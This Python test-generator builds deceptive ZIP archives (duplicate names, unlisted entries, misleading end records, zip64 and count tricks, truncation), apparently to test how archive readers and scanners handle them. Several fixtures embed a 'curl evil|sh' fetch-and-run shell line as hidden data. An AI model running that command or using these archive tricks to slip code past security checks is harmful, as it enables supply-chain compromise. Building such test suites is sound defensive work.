"""Zips whose end lies: end records, counts, offsets, bytes that nothing lists, truncation, split archives."""
from forge import (END_MAGIC, LOCAL_MAGIC, LOCATOR_MAGIC, MAX16, MAX32, MAX64, STORED, Zip, crc32, descriptor, end64_record,
                   end_record, locator, zip_of)
from zip_entry_lies import EVIL, GOOD, OK, start


def write(suite):
    def lie(file, kinds, why, archive, **more):
        suite.add("zip-" + file + ".zip", kinds, why, archive if isinstance(archive, bytes) else archive.finish(),
                  shown=more.pop("shown", ["ok.txt"]), **more)

    duplicates(lie)
    unlisted(lie)
    end_records(lie)
    counts(lie)
    zip64_ends(lie)
    split(lie)
    broken(lie)
    suite.add("empty", ["@error"], "an empty file", b"")
    suite.add("text.zip", ["@error"], "a text file that is called a zip", b"this is no archive at all\n")
    suite.add("one-byte.zip", ["@error"], "one byte", b"P")


def duplicates(lie):
    wrong = ["duplicate-name"]
    lie("duplicate", wrong, "two entries of one name: the first wins for some readers, the last for others",
        start().add("index.js", GOOD).add("index.js", EVIL))
    lie("duplicate-same-bytes", wrong, "two entries of one name and content", start().add("index.js", GOOD).add("index.js", GOOD))
    lie("duplicate-far", wrong, "the twin hides far behind",
        far_twin())
    lie("duplicate-dot", wrong, "./index.js and index.js are one file", start().add("index.js", GOOD).add("./index.js", EVIL))
    lie("duplicate-slashes", wrong, "lib//a.js and lib/a.js are one file", start().add("lib/a.js", GOOD).add("lib//a.js", EVIL))
    lie("duplicate-inner-dot", wrong, "lib/./a.js and lib/a.js are one file", start().add("lib/a.js", GOOD).add("lib/./a.js", EVIL))
    lie("duplicate-encoding", wrong, "one name, with and without the UTF-8 flag",
        start().add("é.js", GOOD).add("é.js", EVIL, flags=0))
    lie("duplicate-escaped", wrong, "`x!/a` is shown as `x%21/a`, and an entry is called so already",
        start().add("x!/a", GOOD).add("x%21/a", EVIL))
    lie("duplicate-nested", wrong, "duplicate names inside a nested archive", shown=["ok.txt", "inner.zip!/ok.txt"],
        archive=start().add("inner.zip", start().add("index.js", GOOD).add("index.js", EVIL).finish()))


def far_twin():
    archive = start().add("index.js", GOOD)
    for number in range(200):
        archive.add("lib/%03d.js" % number, OK)
    return archive.add("index.js", EVIL)


def unlisted(lie):
    """Local entries and bytes that the directory does not know."""
    entry, data = ["unlisted-entry"], ["unlisted-data"]
    lie("unlisted-entry", entry, "a local entry that the directory does not list: streaming readers extract it",
        start().add("evil.js", EVIL, listed=False).add("index.js", GOOD))
    lie("unlisted-first", entry, "the first local entry is not listed", Zip().add("evil.js", EVIL, listed=False).add("ok.txt", OK))
    lie("unlisted-last", entry, "the last local entry is not listed", start().add("evil.js", EVIL, listed=False))
    lie("unlisted-same-name", entry, "an unlisted entry of the same name as a listed one",
        start().add("index.js", EVIL, listed=False).add("index.js", GOOD))
    lie("unlisted-streamed", entry, "an unlisted entry with a data descriptor",
        start().add("evil.js", EVIL, streamed="signed", listed=False).add("index.js", GOOD))
    lie("unlisted-after-directory", entry, "a local entry between the directory and its end record",
        start().finish(gap=bytes(Zip().add("evil.js", EVIL).out)))
    lie("unlisted-after-end", entry, "a local entry behind the end record", start().finish(after=bytes(Zip().add("evil.js", EVIL).out)))
    lie("unlisted-directory", data, "a second central directory that no end record points to",
        two_directories())
    lie("gap", data, "bytes between two entries", start().raw(b"#!/bin/sh\ncurl evil|sh\n").add("index.js", GOOD))
    lie("gap-zeros", data, "4 kB of zeros between two entries", start().raw(bytes(4096)).add("index.js", GOOD))
    lie("gap-before-directory", data, "bytes between the last entry and the directory", start().raw(b"payload"))
    lie("gap-before-end", data, "bytes between the directory and its end record", start().finish(gap=b"payload"))
    lie("gap-descriptor", data, "a data descriptor behind an entry that announces none",
        start().raw(descriptor(crc32(OK), 1, len(OK))).add("index.js", GOOD))
    lie("prepended", data, "an executable before the archive, offsets counted from the archive",
        Zip(b"\x7fELF" + b"evil" * 50, counted=False).add("ok.txt", OK))
    lie("prepended-counted", data, "an executable before the archive, offsets counted from the file",
        Zip(b"\x7fELF" + b"evil" * 50).add("ok.txt", OK))
    lie("prepended-script", data, "a shell script of several lines before the archive",
        Zip(b"#!/bin/sh\ncurl evil|sh\nexit\n").add("ok.txt", OK))
    lie("prepended-shebang-entry", entry, "a shebang line that holds a local entry",
        Zip(b"#!" + bytes(Zip().add("evil.js", EVIL[:-1], method=STORED).out) + b"\n").add("ok.txt", OK))
    lie("prepended-shebang-long", data, "a shebang line of 60 kB", Zip(b"#!/bin/sh -c " + b"x" * 60000 + b"\n").add("ok.txt", OK))
    lie("prepended-gif", data, "an image before the archive", Zip(b"GIF89a" + bytes(64), counted=False).add("ok.txt", OK))
    lie("appended", data, "bytes behind the end record", start().finish(after=b"#!/bin/sh\ncurl evil|sh\n"))
    lie("appended-newline", data, "one newline behind the end record", start().finish(after=b"\n"))
    lie("appended-zeros", ["@any"], "70 kB of zeros behind the end record: who looks back 64 kB finds no archive",
        start().finish(after=bytes(70000)), shown=[])


def two_directories():
    """Both directories are whole and list the same local entries under other names; the end record knows the second."""
    archive = start().add("index.js", GOOD)
    first = archive.central_bytes().replace(b"index.js", b"evil1.js")
    return archive.raw(first)


def end_records(lie):
    """Two ends: which archive is it?"""
    hidden = zip_of(("index.js", EVIL))
    data = ["unlisted-data"]
    lie("two-archives", data + ["unlisted-entry"], "one archive behind another: the first end record or the last", hidden + start().finish())
    lie("two-archives-counted", data + ["unlisted-entry"], "the same, and the second one's offsets count from the file",
        Zip(hidden).add("ok.txt", OK).finish())
    lie("two-ends", data, "two end records, each with its directory over the same entries", two_ends())
    lie("end-in-comment", data, "the archive's comment holds an end record with no entries: who searches backwards sees nothing",
        start().finish(comment=b"hello " + end_record(0, 0, 0)), shown=[])
    lie("end-in-comment-first", data, "the same at the very start of the comment", start().finish(comment=end_record(0, 0, 0)),
        shown=[])
    lie("end-in-comment-middle", data, "the inner end record has a comment of its own, so that both end at the end of the file",
        start().finish(comment=end_record(0, 0, 0, b"bye")), shown=[])
    lie("end-in-comment-loose", data, "the end record in the comment does not reach the end of the file",
        start().finish(comment=end_record(0, 0, 0) + b"tail"), shown=[])
    lie("end-in-comment-partial", data, "a bare end signature in the comment", start().finish(comment=b"see " + END_MAGIC + b"!"))
    lie("archive-in-comment", data, "the comment holds a whole archive of its own", archive_in_comment(), shown=[])
    lie("comment-short", data, "the comment's length is shorter than what follows", start().finish(comment=b"hello world", end={"comment_length": 5}))
    lie("comment-long", ["truncated-archive"], "the comment's length goes beyond the file", shown=[],
        archive=start().finish(comment=b"hello", end={"comment_length": 500}))
    lie("end-in-entry", ["@any"], "a stored entry's bytes end in an end record, and the true one is followed by 70 kB",
        start().add("a.bin", end_record(0, 0, 0), method=STORED).finish(after=bytes(66000)), shown=[])
    lie("directory-in-entry", ["unlisted-data", "header-mismatch"], "the end record points to a directory inside an entry's stored bytes",
        directory_in_entry(), shown=[])


def two_ends():
    archive = start().add("index.js", GOOD)
    first = archive.finish()
    shadow = Zip()
    shadow.out, shadow.directory = bytearray(first), [dict(h) for h in archive.directory]
    return shadow.finish()


def archive_in_comment():
    """Offsets in the comment's archive count from the file, so it opens like any other."""
    outer = start()
    at = len(outer.finish())
    inner = Zip(bytes(at)).add("index.js", EVIL).finish()[at:]
    return outer.finish(comment=inner)


def directory_in_entry():
    """`cover.bin` holds a central directory that lists `cover.bin` itself and a hidden script; the true directory follows.
    No file can hold its own checksum, so `cover.bin` has none."""
    archive = start().add("index.js", EVIL)
    length = len(archive.central_bytes()) + 46 + len("cover.bin")
    inside = start().add("index.js", EVIL).add("cover.bin", bytes(length), method=STORED, crc=0).central_bytes()
    at = archive.here() + 30 + len("cover.bin")
    return archive.add("cover.bin", inside, method=STORED, crc=0).finish(end={"offset": at, "size": length})


def counts(lie):
    wrong = ["count-mismatch"]

    def pair():
        return start().add("index.js", EVIL)

    lie("count-zero", wrong, "the end record counts no entry: some readers see an empty archive",
        pair().finish(end={"here": 0, "total": 0}), shown=[])
    lie("count-less", wrong, "the end record counts one entry of two: the last is hidden", pair().finish(end={"here": 1, "total": 1}))
    lie("count-more", wrong, "the end record counts three entries of two", pair().finish(end={"here": 3, "total": 3}), shown=[])
    lie("count-total", wrong, "one entry on this disk, two in all", pair().finish(end={"here": 1}), shown=[])
    lie("count-here", wrong, "two entries on this disk, one in all", pair().finish(end={"total": 1}), shown=[])
    lie("count-maximum", wrong, "65,535 entries, without zip64", pair().finish(end={"here": MAX16, "total": MAX16}), shown=[])
    size = len(pair().central_bytes())
    lie("directory-size-zero", wrong, "the directory has no bytes, by the end record", pair().finish(end={"size": 0}), shown=[])
    lie("directory-size-less", wrong, "the directory's size covers the first entry only",
        pair().finish(end={"size": len(start().central_bytes())}), shown=[])
    lie("directory-size-more", ["unreadable-archive"], "the directory's size reaches into the end record", pair().finish(end={"size": size + 10}), shown=[])
    lie("directory-size-huge", wrong, "a directory of 2 GiB", pair().finish(end={"size": 0x7FFFFFFF}), shown=[])
    lie("directory-offset-second", ["unlisted-data", "unlisted-entry"], "the directory's offset skips its first entry",
        pair().finish(end={"offset": pair().here() + len(start().central_bytes()), "size": size - len(start().central_bytes()),
                           "here": 1, "total": 1}), shown=[])


def zip64_ends(lie):
    """Zip64 end records: one reader uses them always, another only where the end record refers to them."""
    wrong = ["count-mismatch"]

    def pair():
        return start().add("index.js", EVIL)

    lie("zip64-count-zero", wrong, "zip64 counts no entry, the end record two",
        pair().finish(zip64="quiet", end64={"here": 0, "total": 0}), shown=[])
    lie("zip64-count-less", wrong, "zip64 counts one entry, the end record two",
        pair().finish(zip64="quiet", end64={"here": 1, "total": 1}), shown=[])
    lie("zip64-count-only", wrong, "the end record refers to zip64, which counts one entry of two",
        pair().finish(zip64="full", end64={"here": 1, "total": 1}))
    lie("zip64-count-huge", wrong, "zip64 counts 2^64-1 entries", pair().finish(zip64="full", end64={"here": MAX64, "total": MAX64}), shown=[])
    lie("zip64-size-less", wrong, "zip64's directory size is shorter than the end record's",
        pair().finish(zip64="quiet", end64={"size": 10}), shown=[])
    lie("zip64-offset-other", wrong, "zip64 points to another directory than the end record does", other_directory(), shown=[])
    lie("zip64-locator-elsewhere", wrong, "the locator points to a second zip64 record hidden before the first entry", elsewhere(), shown=[])
    lie("zip64-locator-nowhere", ["unreadable-archive"], "the locator points to no record, and the end record needs it",
        start().finish(zip64="full", locate={"offset": 3}), shown=[])
    lie("zip64-locator-outside", ["unreadable-archive"], "the locator points behind the file",
        start().finish(zip64="full", locate={"offset": MAX64 - 8}), shown=[])
    lie("zip64-locator-idle", ["unlisted-data"], "a locator without a record, where the end record needs none",
        start().finish(gap=locator(5)), shown=[])
    lie("zip64-record-idle", ["unlisted-data"], "a zip64 record that no locator points to",
        start().finish(gap=end64_record(0, 0, 0)), shown=[])
    lie("zip64-gap", ["unlisted-data"], "bytes between the zip64 record and its locator", zip64_gap(), shown=[])
    lie("zip64-sector", ["unlisted-data"], "the zip64 record has an extensible sector with a script",
        start().finish(zip64="full", end64={"sector": b"#!/bin/sh\ncurl evil|sh\n"}), shown=[])
    lie("zip64-record-long", ["unlisted-data"], "the zip64 record's own size runs past the file",
        start().finish(zip64="full", end64={"record": 1 << 40}), shown=[])
    lie("zip64-offset-overflow-end", ["unreadable-archive"], "zip64 puts the directory at 2^64-1",
        start().finish(zip64="full", end64={"offset": MAX64}), shown=[])
    lie("zip64-needed", ["count-mismatch"], "the end record refers to zip64 and there is none",
        start().finish(end={"here": MAX16, "total": MAX16, "size": MAX32, "offset": MAX32}), shown=[])


def other_directory():
    """The end record knows [ok.txt, index.js]; zip64 knows a second directory in which index.js has other bytes."""
    archive = start().add("index.js", GOOD).add("index.js", EVIL)
    good, evil = archive.central_bytes([0, 1]), archive.central_bytes([0, 2])
    at = archive.here()
    out = bytes(archive.out) + good + evil
    return out + end64_record(2, len(evil), at + len(good)) + locator(len(out)) + end_record(2, len(good), at)


def elsewhere():
    """A zip64 record at the start of the file counts nothing; the one before the locator is right."""
    archive = Zip(end64_record(0, 0, 0)).add("ok.txt", OK)
    return archive.finish(zip64="quiet", locate={"offset": 0})


def zip64_gap():
    archive = start()
    listed, at = archive.central_bytes(), archive.here()
    out = bytes(archive.out) + listed
    return out + end64_record(1, len(listed), at) + b"payload" + locator(len(out)) + end_record(1, len(listed), at)


def split(lie):
    wrong = ["split-archive"]
    lie("split-last", wrong, "the last part of a split archive", start().finish(end={"disk": 1, "directory_disk": 1}), shown=[])
    lie("split-directory", wrong, "the directory begins on another disk", start().finish(end={"disk": 1}), shown=[])
    lie("split-entry", wrong, "an entry begins on another disk", start().add("index.js", GOOD, central={"disk": 1}))
    lie("split-marker", wrong, "a spanning marker stands before the first entry", Zip(b"PK\x07\x08").add("ok.txt", OK), shown=[])
    lie("split-marker-single", ["@any"], "the marker of an archive that could have been split", Zip(b"PK00").add("ok.txt", OK), shown=[])
    lie("split-zip64", wrong, "zip64 speaks of two disks", start().finish(zip64="full", locate={"disks": 2}), shown=[])
    lie("split-first", ["@any"], "the first part of a split archive: a marker, entries, no end",
        bytes(Zip(b"PK\x07\x08").add("ok.txt", OK).out), shown=[])


def broken(lie):
    whole = start().add("index.js", GOOD * 20).finish()
    directory = whole.index(b"PK\x01\x02")
    cut, unreadable = ["truncated-archive"], ["unreadable-archive"]
    lie("truncated-entry", cut, "the file ends within an entry", whole[:directory - 40], shown=[])
    lie("truncated-directory", cut, "the file ends within the directory", whole[:directory + 30], shown=[])
    lie("truncated-before-end", cut, "the end record is missing", whole[:-22], shown=[])
    lie("truncated-end", cut, "half an end record", whole[:-9], shown=[])
    lie("truncated-last-byte", cut, "one byte is missing", whole[:-1], shown=[])
    lie("truncated-magic", cut, "four bytes of a zip", LOCAL_MAGIC, shown=[])
    lie("truncated-nested", cut, "a nested archive that ends too early", start().add("inner.zip", whole[:-30]))
    lie("garbage", cut, "a zip's first bytes and then noise", LOCAL_MAGIC + bytes(range(7, 256)) * 8, shown=[])
    lie("headless", unreadable, "the first hundred bytes are cut off: every offset is too large", whole[100:], shown=[])
    lie("directory-garbage", unreadable, "noise where the directory should be",
        whole[:directory] + b"\x99" * (len(whole) - 22 - directory) + whole[-22:], shown=[])
    lie("directory-outside", unreadable, "the directory lies behind the file", start().finish(end={"offset": 0x7FFFFFFF}), shown=[])
    lie("directory-negative", unreadable, "the directory's offset is -2 for who reads it signed", start().finish(end={"offset": 0xFFFFFFFE}), shown=[])
    lie("directory-name-length", unreadable, "the last directory entry's name runs past the file",
        start().add("index.js", GOOD, central={"name_length": 60000}), shown=[])
    lie("directory-comment-length", ["count-mismatch"], "the first directory entry's comment swallows the second entry",
        swallowed_entry(), shown=[])
    lie("end-only", ["count-mismatch"], "an end record that counts three entries, and nothing before it", end_record(3, 138, 0), shown=[])
    lie("locator-magic", cut, "a zip that ends in a locator", start().finish()[:-22] + LOCATOR_MAGIC + bytes(16), shown=[])


def swallowed_entry():
    """The comment of ok.txt claims the bytes of the next directory entry; the count still says two."""
    archive = start().add("index.js", EVIL)
    archive.directory[0]["comment_length"] = len(archive.central_bytes([1]))
    return archive
